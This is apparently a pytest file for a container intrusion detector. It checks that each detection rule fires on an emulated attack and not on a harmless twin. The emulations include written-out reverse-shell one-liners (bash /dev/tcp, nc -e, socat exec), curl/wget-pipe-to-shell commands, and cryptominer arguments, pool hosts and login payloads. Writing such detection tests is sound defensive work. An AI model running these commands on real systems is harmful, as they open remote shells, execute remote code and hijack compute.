"""Each rule fires on its emulation and is silent on the honest twin next to it."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from pratique.detections import (
    RULES,
    Detector,
    Subject,
    image_behaved,
    image_condemned,
    image_found,
    image_kin,
    intruder,
    posture,
)
from pratique.model import (
    Action,
    Alert,
    Behaviour,
    Container,
    Decision,
    Detonation,
    Direction,
    ExecFlag,
    Finding,
    FindingKind,
    FlowVerdict,
    ImageId,
    ImageIdentity,
    LossEvent,
    Protocol,
    Report,
    SensorEvent,
    Severity,
    Verdict,
)
from tests.unit.detections import recorded
from tests.unit.detections.events import BUILD, SUBJECT, decision, execution, flow, packet_socket, payload, question

Case = tuple[str, Callable[[], list[Alert]], Callable[[], list[Alert]]]
UPPER, LOWER, KILLED = ExecFlag.UPPER, ExecFlag.LOWER, ExecFlag.KILLED
WALLET = "4" + "8edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
XMRIG_LOGIN = f'{{"id":1,"jsonrpc":"2.0","method":"login","params":{{"login":"{WALLET}","pass":"x"}}}}\n'.encode()
SUBSCRIBE = b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n'
HONEST_LOGIN = b'{"jsonrpc":"2.0","id":1,"method":"login","params":{"login":"alice","password":"correct horse"}}'
IMAGE = ImageIdentity(ImageId("sha256:" + "a" * 64), references=("evil:latest",))

RUNNING = Container(id="c" * 64, name="x", image=IMAGE.id, running=True)
STOPPED = Container(id="d" * 64, name="y", image=IMAGE.id)


def events(*given: SensorEvent, subject: Subject = SUBJECT) -> Callable[[], list[Alert]]:
    def run() -> list[Alert]:
        detector = Detector()
        return [alert for event in given for alert in detector.observe(event, subject)]

    return run


def decided(given: Decision) -> Callable[[], list[Alert]]:
    return lambda: Detector().decided(given)


def found(*findings: Finding) -> Callable[[], list[Alert]]:
    return lambda: image_found(Report(IMAGE, scanned_at=1.0, duration_s=1.0, findings=findings), 100.0)


def finding(kind: FindingKind) -> Finding:
    return Finding(kind, "miner.xmrig", Severity.CRITICAL, "a miner", path="/usr/bin/x")


def condemned() -> list[Alert]:
    return image_condemned(IMAGE, "it mines", 100.0, [RUNNING, STOPPED])


def kin() -> list[Alert]:
    return image_kin(IMAGE, {"condemned": "evil/kit:1", "share": "0.93"}, 100.0, [RUNNING, STOPPED])


def detonation(verdict: Behaviour) -> Detonation:
    return Detonation(IMAGE, 1.0, 60.0, ("/start",), verdict, "a miner was started")


def exec_case(rule: str, bad: tuple[str, ...], good: tuple[str, ...]) -> Case:
    return rule, events(execution(*bad)), events(execution(*good))


CASES: list[Case] = [
    ("exec.drift", events(execution("/tmp/x", flags=UPPER)), events(execution("/usr/bin/x", flags=LOWER))),
    ("exec.drift", events(execution("/tmp/x", flags=UPPER | KILLED), subject=BUILD),
     events(execution("/tmp/configure", flags=UPPER), subject=BUILD)),
    ("exec.drift", events(execution("/tmp/x", flags=UPPER | ExecFlag.DELETED)),
     events(execution("/usr/bin/x", flags=LOWER | ExecFlag.DELETED))),
    ("exec.modified", events(execution("/usr/bin/ls", flags=UPPER | LOWER | ExecFlag.MODIFIED)),
     events(execution("/usr/bin/ls", flags=LOWER))),
    ("exec.touched", events(execution("/app/run", flags=UPPER | LOWER)),
     events(execution("/app/run", flags=UPPER | LOWER), subject=Subject(container="c", may_change_metadata=True))),
    ("exec.library", events(execution(file="/tmp/evil.so", flags=UPPER | ExecFlag.LIBRARY)),
     events(execution(file="/lib/libc.so.6", flags=LOWER))),
    ("exec.library", events(execution(file="memfd:x", flags=ExecFlag.MEMFD | ExecFlag.LIBRARY)),
     events(execution(file="/lib/libc.so.6", flags=LOWER))),
    ("exec.fileless", events(execution("memfd:x", flags=ExecFlag.MEMFD | ExecFlag.DELETED)),
     events(execution("/usr/bin/x", flags=LOWER))),
    ("exec.volume", events(execution("/dev/shm/x", flags=ExecFlag.NOT_OVERLAY)),
     events(execution("/config/hook", flags=ExecFlag.NOT_OVERLAY | ExecFlag.READ_ONLY))),
    exec_case("exec.miner", ("/usr/bin/xmrig", "-o", "a:1"), ("/usr/bin/xmrig-exporter",)),
    exec_case("exec.miner", ("/opt/nginx", "--donate-level", "1"), ("/opt/nginx", "--level", "1")),
    exec_case("exec.miner", ("/opt/nginx", "-o", "stratum+tcp://10.0.0.1:1"), ("curl", "-o", "tcp://10.0.0.1:1")),
    exec_case("exec.miner", ("/opt/nginx", "--url=stratum+ssl://x:1"), ("grep", "-r", "a stratum+tcp:// b", "/src")),
    exec_case("exec.miner", ("/opt/x", "-o", "pool.supportxmr.com:443"), ("/opt/x", "-o", "supportxmr.community:443")),
    exec_case("exec.miner", ("[kworker]", "--algo=rx/0"), ("openssl", "--algo=sha256")),
    exec_case("exec.reverse-shell", ("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
              ("bash", "-c", "echo > /dev/tcp/db/5432 && echo up")),
    exec_case("exec.reverse-shell", ("sh", "-c", "exec 5<>/dev/tcp/h/1; cat <&5 | sh"), ("sh", "-c", "cat /dev/tcp")),
    exec_case("exec.reverse-shell", ("bash", "-c", "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196"),
              ("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9000; echo -e 'GET /health HTTP/1.1' >&3; grep -q UP <&3")),
    exec_case("exec.reverse-shell", ("bash", "-c", "exec 5<>/dev/tcp/h/1; while read l; do $l >&5; done <&5"),
              ("bash", "-c", "while read l; do echo $l; done < /dev/tcp/clock/13")),
    exec_case("exec.reverse-shell", ("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), ("nc", "-z", "db", "5432")),
    exec_case("exec.reverse-shell", ("ncat", "--sh-exec", "/bin/bash -i", "h", "1"), ("ncat", "-l", "8080")),
    exec_case("exec.reverse-shell", ("/bin/busybox", "nc", "h", "1", "-e", "sh"), ("/bin/busybox", "nc", "h", "1")),
    exec_case("exec.reverse-shell", ("socat", "exec:bash -li,pty", "tcp:10.0.0.1:1"),
              ("socat", "tcp-listen:80,fork", "tcp:web:8080")),
    exec_case("exec.piped-download", ("sh", "-c", "wget -qO- http://h/d.sh | bash"),
              ("sh", "-c", "curl -s http://h/data | jq .")),
    exec_case("exec.piped-download", ("bash", "-ec", "curl -fsSL https://h/x|sh -s -- -y"),
              ("bash", "-c", "curl -fsS http://localhost/health || exit 1")),
    exec_case("exec.piped-download", ("/bin/sh", "-c", "bash <(curl -s http://h/x)"), ("sh", "-c", "./a.sh | tee a")),
    exec_case("exec.piped-download", ("sh", "-c", 'sh -c "$(wget -O- http://h/x)"'), ("sh", "-c", "wget h; ls | sort")),
    exec_case("exec.package-manager", ("apk", "add", "nmap"), ("apk", "info", "nmap")),
    ("exec.package-manager", events(execution("apt-get", "-y", "install", "gcc")),
     events(execution("apt-get", "-y", "install", "gcc"), subject=BUILD)),
    ("net.packet-socket", events(packet_socket()), events(flow(verdict=FlowVerdict.ALLOWED))),
    ("net.packet-socket", events(packet_socket(44, killed=False)), events(flow(verdict=FlowVerdict.LEARNT))),
    ("net.egress", events(flow()), events(flow(verdict=FlowVerdict.ALLOWED))),
    ("net.egress", events(flow(verdict=FlowVerdict.REPORTED)), events(flow(verdict=FlowVerdict.LEARNT))),
    ("net.egress", events(flow(protocol=Protocol.ICMP, port=8)), events(flow(direction=Direction.INGRESS))),
    ("net.scan", events(*(flow(f"10.0.0.{host}", 2375, at=100.0 + host) for host in range(1, 11))),
     events(*(flow(f"10.0.0.{host}", 2375, at=100.0 + 20 * host) for host in range(1, 11)))),
    ("net.scan", events(*(flow("198.51.100.9", port) for port in range(20, 30))),
     events(*(flow("198.51.100.9", 80, at=100.0 + turn) for turn in range(30)))),
    ("net.scan", events(*(flow(f"fd00::{host:x}", 22, verdict=FlowVerdict.REPORTED) for host in range(1, 11))),
     events(*(flow(f"fd00:0:0:{host:x}::1", 22, verdict=FlowVerdict.REPORTED) for host in range(1, 11)))),
    ("net.scan", events(*(flow(f"10.{host}.0.1", 80, verdict=FlowVerdict.ALLOWED) for host in range(120))),
     events(*(flow(f"10.{host}.0.1", 80, verdict=FlowVerdict.ALLOWED) for host in range(50)))),
    ("net.scan", events(*(flow(f"172.17.0.{host}", 22, verdict=FlowVerdict.LEARNT) for host in range(1, 120))),
     events(*(flow(f"172.17.0.{host}", 22, direction=Direction.INGRESS) for host in range(1, 120)))),
    ("net.miner-protocol", events(payload(SUBSCRIBE)),
     events(payload(b'{"id": 1, "method": "orders.subscribe", "params": []}'))),
    ("net.miner-protocol", events(payload(XMRIG_LOGIN, port=443)), events(payload(HONEST_LOGIN))),
    ("net.miner-protocol", events(payload(b'{"method":"eth_submitLogin","params":["0xab"]}')),
     events(payload(b'{"method":"eth_blockNumber","params":[]}'))),
    ("net.miner-protocol", events(payload(b'{"method":"login","params":{"agent":"XMRig/6.21"}}')),
     events(payload(b'POST / HTTP/1.1\r\n\r\n{"method":"mining.subscribe"}'))),
    ("net.miner-pool", events(payload(question("pool.supportxmr.com"), protocol=Protocol.UDP, port=53)),
     events(payload(question("supportxmr.com.example.org"), protocol=Protocol.UDP, port=53))),
    ("net.miner-pool", events(payload(question("XMR-EU.NanoPool.ORG"), protocol=Protocol.UDP, port=53)),
     events(payload(question("nanopool.organic"), protocol=Protocol.UDP, port=53))),
    ("net.miner-port", events(flow(port=3333)), events(flow(port=3333, verdict=FlowVerdict.ALLOWED))),
    ("net.miner-port", events(flow(port=14444, verdict=FlowVerdict.REPORTED)),
     events(flow(port=3333, protocol=Protocol.UDP))),
    ("api.build", decided(decision("build.denied", subject="POST /v1.45/build")),
     decided(decision("create.allowed", Verdict.ALLOW))),
    ("api.build-allowed", decided(decision("build.allowed", Verdict.ALLOW, "POST /v1.45/build?t=x")),
     decided(decision("build.allowed", Verdict.ALLOW, "POST /v1.45/build/prune?all=1"))),
    ("api.settings", decided(decision("create.privileged")), decided(decision("create.allowed", Verdict.ALLOW))),
    ("api.settings", decided(decision("update.cgroup-parent")), decided(decision("update.allowed", Verdict.ALLOW))),
    ("api.unadmitted", decided(decision("start.no-report")), decided(decision("start.allowed", Verdict.ALLOW))),
    ("api.unhealthy-image", decided(decision("start.report")), decided(decision("start.allowed", Verdict.ALLOW))),
    ("api.image", decided(decision("image.load-denied")), decided(decision("load.allowed", Verdict.ALLOW))),
    ("api.exec", decided(decision("exec.denied")), decided(decision("exec-create.allowed", Verdict.ALLOW))),
    ("api.copy", decided(decision("copy.denied")), decided(decision("copy-into.allowed", Verdict.ALLOW))),
    ("api.orchestration", decided(decision("swarm.denied")), decided(decision("read.allowed", Verdict.ALLOW))),
    ("api.request", decided(decision("request.unknown-route")), decided(decision("own-call", Verdict.ALLOW))),
    ("api.request", decided(decision("something.new")), decided(decision("something.new", Verdict.ALLOW))),
    ("guard.undecided", decided(decision("guard.deadline")), decided(decision("policy.apply", Verdict.ALLOW))),
    ("container.intruder", lambda: [intruder(Container("c" * 64, "x", IMAGE.id), 100.0)], found()),
    ("api.condemned-image", decided(decision("start.condemned")), decided(decision("start.report"))),
    ("image.condemned", condemned, kin),
    ("image.kin", kin, condemned),
    ("image.malware", found(finding(FindingKind.MALWARE)), found(finding(FindingKind.VULNERABILITY))),
    ("image.behaviour", lambda: image_behaved(detonation(Behaviour.BAD), 100.0),
     lambda: image_behaved(detonation(Behaviour.UNCLEAR), 100.0)),
    ("host.api-exposed", lambda: posture(["tcp://0.0.0.0:2375"], 100.0), lambda: posture([], 100.0)),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "emulation", "twin"), CASES, ids=[f"{n}-{case[0]}" for n, case in enumerate(CASES)])
def test_rule_fires_on_the_attack_and_not_on_its_honest_twin(
    rule: str, emulation: Callable[[], list[Alert]], twin: Callable[[], list[Alert]]
) -> None:
    fired = [alert for alert in emulation() if alert.rule == rule]
    assert fired
    assert all(alert.techniques == RULES[rule].techniques and alert.key for alert in fired)
    assert rule not in {alert.rule for alert in twin()}


def test_every_rule_has_a_case() -> None:
    of_the_sandbox = {case.rule for case in (*recorded.CASES, *recorded.TOLD)}
    assert {case[0] for case in CASES} | of_the_sandbox | {"run.sleeper"} == set(RULES)


def test_every_rule_names_its_techniques_as_attack_writes_them() -> None:
    for rule in RULES.values():
        assert rule.techniques or rule.id == "guard.undecided"
        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique.id) for technique in rule.techniques)
        assert rule.why.endswith(".")
        assert not rule.title.endswith(".")


def test_every_refusal_of_the_guard_becomes_an_alert() -> None:
    from pratique.guard.refusal import RULES as REFUSALS

    for refusal in REFUSALS:
        (alert,) = Detector().decided(decision(refusal))
        assert alert.action is Action.REFUSED
        assert alert.evidence["rule"] == refusal
        if refusal.partition(".")[0] not in {"request", "top", "debug", "start", "create"}:
            assert alert.rule != "api.request", refusal


def test_ordinary_life_of_a_container_is_silent() -> None:
    honest: list[SensorEvent] = [
        execution("/usr/bin/python3", "-m", "checkout"),
        execution("/bin/sh", "-c", "exec gunicorn app:app 2>&1"),
        execution("/usr/bin/curl", "-fsS", "http://localhost/health"),
        flow("10.0.0.2", 6379, verdict=FlowVerdict.ALLOWED),
        payload(b'{"level":"info","method":"GET"}', port=5000),
        payload(question("redis"), protocol=Protocol.UDP, port=53),
        LossEvent(at=1.0, source="flows", count=3),
    ]
    assert events(*honest)() == []


def test_what_the_kernel_did_is_told() -> None:
    (killed,) = events(execution("/tmp/x", flags=UPPER | KILLED))()
    (alerted,) = events(execution("/tmp/x", flags=UPPER))()
    (denied,) = events(flow())()
    (reported,) = events(flow(verdict=FlowVerdict.REPORTED))()
    assert [alert.action for alert in (killed, alerted, denied, reported)] == [
        Action.KILLED,
        Action.ALERTED,
        Action.DENIED,
        Action.ALERTED,
    ]


def test_whatever_was_killed_is_told_whoever_ran_it() -> None:
    for flags in (KILLED, LOWER | KILLED, UPPER | LOWER | KILLED):
        for subject in (SUBJECT, BUILD, Subject(may_change_metadata=True)):
            assert [alert.action for alert in events(execution("/x", flags=flags), subject=subject)()] == [
                Action.KILLED
            ]


def test_alert_names_image_and_container() -> None:
    (alert,) = events(flow())()
    assert (alert.image, alert.image_name, alert.container_name) == (
        SUBJECT.image,
        SUBJECT.image_name,
        SUBJECT.container_name,
    )
    assert alert.evidence["policy"] == "shop/checkout"


def test_container_without_a_ticket_is_told_as_such() -> None:
    (alert,) = events(flow(), subject=Subject(container="c" * 64))()
    assert alert.evidence["admitted"] == "no"
    (admitted,) = events(flow())()
    assert "admitted" not in admitted.evidence


def test_repetitions_have_one_key_and_different_things_different_keys() -> None:
    first, again, other_port, other_container = (
        events(flow())()[0],
        events(flow(at=110.0))()[0],
        events(flow(port=8443))()[0],
        events(flow(), subject=Subject(container="d" * 64))()[0],
    )
    assert first.key == again.key
    assert len({first.key, other_port.key, other_container.key}) == 3


def test_evidence_is_bounded_whatever_the_attacker_writes() -> None:
    (alert,) = events(execution("/tmp/" + "x" * 10_000, *["y" * 1000] * 50, flags=UPPER))()
    assert all(len(value) <= 500 for value in alert.evidence.values())
    assert len(alert.key) < 1000


def test_each_running_container_of_kin_has_an_alert_of_its_own_and_so_has_the_image() -> None:
    assert [alert.container for alert in kin()] == ["", RUNNING.id]
    assert len({alert.key for alert in kin()}) == 2


def test_documentation_lists_every_rule_as_it_is() -> None:
    text = Path("docs/detections.md").read_text()
    listed = [line for line in text.splitlines() if line.startswith("| `")]
    assert listed == [
        f"| `{rule.id}` | {rule.severity} | {', '.join(technique.id for technique in rule.techniques) or '-'} "
        f"| {rule.title}. {rule.why} |"
        for rule in RULES.values()
    ]


def test_documentation_lists_every_rule_that_condemns() -> None:
    text = Path("docs/detonate.md").read_text().partition("makes the verdict `bad`:")[2].partition("Everything else")[0]
    assert re.findall(r"`([\w.-]+)`", text) == [rule.id for rule in RULES.values() if rule.condemns]
